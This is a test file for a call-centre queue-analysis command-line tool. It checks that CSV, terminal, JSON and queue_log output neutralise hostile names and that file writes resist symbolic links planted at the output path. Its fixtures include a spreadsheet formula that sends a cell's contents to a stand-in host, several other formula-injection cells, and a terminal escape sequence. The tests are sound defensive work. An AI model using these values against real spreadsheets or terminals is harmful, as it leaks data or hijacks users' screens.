import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { bufferIo } from '../../src/cli/io.js';
import { main } from '../../src/cli/main.js';

// Issue 15: names are data. A name from a record or a scenario that starts like a spreadsheet
// formula, carries a terminal escape, or holds queue_log's separator must come out of every
// output as text — and the files are written by one careful writer.
// Reference for the formula rule: OWASP "CSV Injection" (cells starting with = + - @ tab CR).

const dir = mkdtempSync(join(tmpdir(), 'hostile-out-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

async function run(argv: string[]) {
  const io = bufferIo(dir);
  const code = await main(argv, io);
  return { code, out: io.out, err: io.err };
}

/** True when a spreadsheet would run `cell` as a formula. */
const isFormula = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell);

/** Every cell of every CSV file under `path` (a file or a directory). */
function csvCells(path: string): string[] {
  const files = lstatSync(path).isDirectory()
    ? readdirSync(path)
        .filter((n) => n.endsWith('.csv'))
        .map((n) => join(path, n))
    : [path];
  return files.flatMap((f) =>
    (parse(readFileSync(f, 'utf8'), { relax_column_count: true }) as string[][]).flat(),
  );
}

const hostileQueue = '=HYPERLINK("http://x.example/?"&A1,"ok")';
const queueLog = [
  `1704700800|c1|${hostileQueue}|NONE|ENTERQUEUE||0611111111|1`,
  `1704700810|c1|${hostileQueue}|@SUM(1+1)|CONNECT|10|c1.1|1`,
  `1704700870|c1|${hostileQueue}|@SUM(1+1)|COMPLETECALLER|10|60|1`,
  `1704700900|c2|-2+3|NONE|ENTERQUEUE||0622222222|1`,
  `1704700930|c2|-2+3|NONE|ABANDON|1|1|30`,
  `1704701000|c3|\u001b]0;owned\u0007\u001b[2J|NONE|ENTERQUEUE||0633333333|1`,
  `1704701030|c3|\u001b]0;owned\u0007\u001b[2J|NONE|ABANDON|1|1|30`,
].join('\n');

describe('formula injection', () => {
  it('audit --out writes no formula in calls.csv or history.csv', async () => {
    const log = file('formula.log', `${queueLog}\n`);
    const out = join(dir, 'formula-out');
    expect((await run(['audit', log, '--out', out])).code).toBe(0);
    const cells = csvCells(out);
    expect(cells).toContain(`'${hostileQueue}`);
    expect(cells.filter(isFormula)).toEqual([]);
  });

  it('simulate --out, forecast and staff --plan CSVs carry names as text', async () => {
    const scenario = file(
      'formula.yaml',
      `name: formulas
arrivals: { callsPerDay: 200, intradayProfile: { default: { '00:00': 1 } } }
reasons:
  "=1+1": { share: 0.5, handleTime: { distribution: exponential, mean: 60 }, patience: { distribution: exponential, mean: 90 }, queue: "+cmd" }
  "@x": { share: 0.5, handleTime: { distribution: exponential, mean: 60 }, patience: { distribution: exponential, mean: 90 }, queue: "+cmd" }
queues:
  "+cmd": { operators: { default: [{ from: '00:00', to: '24:00', operators: 2 }] } }
`,
    );
    const out = join(dir, 'sim-out');
    const simulated = await run([
      'simulate',
      scenario,
      '--days',
      '1',
      '--replications',
      '2',
      '--out',
      out,
    ]);
    expect(simulated.err).toContain('wrote');
    expect(simulated.code).toBe(0);
    const cells = csvCells(out);
    expect(cells).toContain("'+cmd");
    expect(cells.filter(isFormula)).toEqual([]);

    const rows = ['interval_start,calls,reason'];
    for (let d = 0; d < 21; d++)
      for (const reason of ['=2+5', '-A1'])
        rows.push(
          `${new Date(Date.UTC(2025, 0, 6 + d, 9)).toISOString().slice(0, 16)},${3 + (d % 4)},${reason}`,
        );
    const history = file('formula-history.csv', `${rows.join('\n')}\n`);
    const forecastCsv = join(dir, 'formula-forecast.csv');
    expect(
      (await run(['forecast', '--history', history, '--horizon', '2d', '--out', forecastCsv])).code,
    ).toBe(0);
    const forecastCells = csvCells(forecastCsv);
    expect(forecastCells).toContain("'=2+5");
    expect(forecastCells.filter(isFormula)).toEqual([]);

    const planCsv = join(dir, 'formula-plan.csv');
    const planned = await run([
      'staff',
      '--plan',
      forecastCsv,
      '--aht',
      '3m',
      '--service-level',
      '0.8',
      '--out',
      planCsv,
    ]);
    expect(planned.code).toBe(0);
    const planCells = csvCells(planCsv);
    // Read back, the apostrophe is dropped: the plan names the reason as it was written.
    expect(planCells).toContain("'=2+5");
    expect(planCells.filter(isFormula)).toEqual([]);
  });
});

describe('terminal escapes', () => {
  it('no control sequence from a queue name reaches the terminal, in text or JSON', async () => {
    const log = file('escape.log', `${queueLog}\n`);
    for (const extra of [[], ['--json']]) {
      const result = await run(['audit', log, ...extra]);
      expect(result.code).toBe(0);
      expect(result.out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      expect(result.out).toContain('\\u001b]0;owned');
    }
    // --json stays JSON, and the name is intact once parsed.
    const json = JSON.parse((await run(['audit', log, '--json'])).out);
    expect(JSON.stringify(json)).toContain('\\u001b]0;owned');
  });
});

describe('queue_log output', () => {
  it('names holding "|" or line breaks keep every line readable by audit', async () => {
    const scenario = file(
      'pipes.yaml',
      `name: pipes
arrivals: { callsPerDay: 300, intradayProfile: { default: { '00:00': 1 } } }
reasons:
  only: { share: 1, handleTime: { distribution: exponential, mean: 60 }, patience: { distribution: exponential, mean: 90 }, queue: "a|b\\nc" }
queues:
  "a|b\\nc": { operators: { default: [{ from: '00:00', to: '24:00', operators: 2 }] } }
`,
    );
    const log = join(dir, 'pipes.log');
    const simulated = await run([
      'simulate',
      scenario,
      '--days',
      '1',
      '--replications',
      '1',
      '--queue-log',
      log,
    ]);
    expect(simulated.code).toBe(0);
    const lines = readFileSync(log, 'utf8').trimEnd().split('\n');
    for (const line of lines) expect(line.split('|').length).toBeGreaterThanOrEqual(8);
    const audited = JSON.parse((await run(['audit', log, '--json'])).out);
    expect(audited.input[0]).toMatchObject({
      lines: lines.length,
      records: lines.length,
      rejected: 0,
    });
    expect(audited.byQueue[0].queue).toBe('a¦b c');
  });
});

describe('files', () => {
  it('--queue-log replaces a symbolic link planted at the target instead of writing through it', async () => {
    const scenario = file(
      'link.yaml',
      `name: link
arrivals: { callsPerDay: 50, intradayProfile: { default: { '00:00': 1 } } }
reasons:
  only: { share: 1, handleTime: { distribution: exponential, mean: 60 }, patience: { distribution: exponential, mean: 90 }, queue: main }
queues:
  main: { operators: { default: [{ from: '00:00', to: '24:00', operators: 2 }] } }
`,
    );
    const victim = file('victim.txt', 'precious\n');
    const log = join(dir, 'link.log');
    symlinkSync(victim, log);
    expect(
      (await run(['simulate', scenario, '--days', '1', '--replications', '1', '--queue-log', log]))
        .code,
    ).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(lstatSync(log).isSymbolicLink()).toBe(false);
    expect(readdirSync(dir).filter((n) => n.includes('.tmp') || n.includes('partial'))).toEqual([]);
  });

  it('audit --out refuses a directory holding files (unless --force) and a symbolic link', async () => {
    const log = file('small.log', `${queueLog}\n`);
    const out = join(dir, 'mine');
    mkdirSync(out);
    writeFileSync(join(out, 'notes.txt'), 'mine\n');
    const refused = await run(['audit', log, '--out', out]);
    expect(refused.code).toBe(2);
    expect(refused.err).toMatch(/--out: expected a new or empty directory/);
    expect(readdirSync(out)).toEqual(['notes.txt']);
    expect((await run(['audit', log, '--out', out, '--force'])).code).toBe(0);
    expect(readdirSync(out)).toContain('notes.txt');
    expect(readdirSync(out)).toContain('calls.csv');

    const elsewhere = join(dir, 'elsewhere');
    mkdirSync(elsewhere);
    const link = join(dir, 'linked-out');
    symlinkSync(elsewhere, link);
    const linked = await run(['audit', log, '--out', link, '--force']);
    expect(linked.code).toBe(2);
    expect(linked.err).toContain('not a symbolic link');
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it('a partial directory left by a killed run is removed and reported', async () => {
    const log = file('stale.log', `${queueLog}\n`);
    const out = join(dir, 'stale-out');
    // What a run killed mid-way leaves: a hidden staging directory with raw calls, owned by a
    // process that no longer runs.
    const stale = join(dir, '.stale-out.partial-AbC123');
    mkdirSync(stale);
    writeFileSync(join(stale, 'calls.csv'), 'call_id,caller\nc1,0611111111\n');
    writeFileSync(join(stale, '.owner'), '2147483646');
    const result = await run(['audit', log, '--out', out]);
    expect(result.code).toBe(0);
    expect(result.err).toContain('removed .stale-out.partial-AbC123');
    expect(existsSync(stale)).toBe(false);
  });

  it('temporary files of killed forecast, plan and report writes are removed and reported', async () => {
    const rows = ['interval_start,calls'];
    for (let d = 0; d < 21; d++)
      rows.push(
        `${new Date(Date.UTC(2025, 0, 6 + d, 9)).toISOString().slice(0, 16)},${3 + (d % 4)}`,
      );
    const history = file('temp-history.csv', `${rows.join('\n')}\n`);
    // What a write killed mid-way leaves beside its target: `.<name>.<pid>-<random>.tmp`
    // (its process gone), or the older `.<name>.<random>.tmp` form, over a minute old.
    const killed = (name: string, middle: string, old = false) => {
      const path = join(dir, `.${name}.${middle}.tmp`);
      writeFileSync(path, 'interval_start,reason\n2025-01-06T09:00,0611111111\n');
      if (old) utimesSync(path, new Date(Date.now() - 3_600_000), new Date(Date.now() - 3_600_000));
      return path;
    };
    const gone = killed('temp-forecast.csv', '2147483646-0123456789ab');
    const legacy = killed('temp-forecast.csv', 'abcdef012345', true);
    const fresh = killed('temp-forecast.csv', 'fedcba987654');
    const running = killed('temp-forecast.csv', `${process.pid}-00112233aabb`);
    const other = killed('other.csv', '2147483646-0123456789ab');
    const forecast = join(dir, 'temp-forecast.csv');
    const result = await run([
      'forecast',
      '--history',
      history,
      '--horizon',
      '1d',
      '--out',
      forecast,
    ]);
    expect(result.code, result.err).toBe(0);
    expect(existsSync(gone) || existsSync(legacy)).toBe(false);
    expect(result.err).toContain(
      'removed .temp-forecast.csv.2147483646-0123456789ab.tmp, left by an earlier run that was killed',
    );
    expect(result.err).toContain('removed .temp-forecast.csv.abcdef012345.tmp');
    // A temporary that may belong to a write still running, or to another file, stays.
    expect([fresh, running, other].map(existsSync)).toEqual([true, true, true]);

    const planGone = killed('temp-plan.csv', '2147483646-0123456789ab');
    const plan = join(dir, 'temp-plan.csv');
    const planned = await run([
      'staff',
      '--plan',
      forecast,
      '--aht',
      '3m',
      '--service-level',
      '0.8',
      '--out',
      plan,
    ]);
    expect(planned.code, planned.err).toBe(0);
    expect(existsSync(planGone)).toBe(false);
    expect(planned.err).toContain('removed .temp-plan.csv.2147483646-0123456789ab.tmp');
    expect(readdirSync(dir).filter((n) => n.startsWith('.temp-plan'))).toEqual([]);
    for (const path of [fresh, running, other]) rmSync(path);
  });
});
